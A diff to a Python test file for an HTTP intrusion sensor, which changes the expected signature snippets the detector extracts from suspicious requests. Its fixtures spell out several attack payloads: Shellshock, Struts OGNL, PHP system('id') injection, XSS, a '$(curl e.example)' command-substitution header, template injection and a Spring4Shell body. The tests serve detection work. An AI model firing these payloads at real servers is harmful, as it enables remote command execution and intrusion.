@@ -9,7 +9,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from sensor.http.cleartext import MAX_TEXT, Cleartext, read_cleartext
+from sensor.http.attacks import MAX_TEXT
+from sensor.http.cleartext import Cleartext, read_cleartext
 from sensor.http.transaction import Header, HttpRequest, HttpTransaction, NotKept
 from sensor.settings import HttpSettings
 from tests.http.wire import FLOW, Heard, Lost, answer, ask
@@ -175,10 +176,10 @@ def test_lookups_in_targets_and_bodies(hear: Hear, request_: bytes, is_ocsp: boo
 @pytest.mark.parametrize(
     ("line", "suspect"),
     [
-        ("User-Agent: () { :;}; /bin/bash -c id", b"user-agent: () { :;}; /bin/bash -c id"),
+        ("User-Agent: () { :;}; /bin/bash -c id", b"user-agent: () { :;}"),
         ("Content-Type: %{(#_='multipart/form-data').(#x=1)}", b"content-type: %{(#_='multipart/form-data').(#x=1)}"),
-        ("User-Agent: <?php system('id'); ?>", b"user-agent: <?php system('id'); ?>"),
-        ("Referer: http://a/%3Cscript%3Ealert(1)", b"referer: <script>alert(1)"),
+        ("User-Agent: <?php system('id'); ?>", b"user-agent: <?php system('id')"),
+        ("Referer: http://a/%3Cscript%3Ealert(1)", b"referer: <script>"),
         ("X-Forwarded-For: a;$(curl e.example)", b"x-forwarded-for: $(curl e.example)"),
         ("X-Name: {{7*7}}", b"x-name: {{7*7}}"),
     ],
@@ -205,7 +206,7 @@ def test_ordinary_headers(hear: Hear, line: str) -> None:
 
 def test_a_body_that_attacks(hear: Hear) -> None:
     body = b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
-    assert told(hear, post("application/x-www-form-urlencoded", body)).suspect == (b"body: " + body,)
+    assert told(hear, post("application/x-www-form-urlencoded", body)).suspect == (b"body: " + body.partition(b"=")[0],)
     assert seen(hear(ask(post("application/json", b'{"a":{"b":{{}}}}')), answer(OK))) is None
 
 
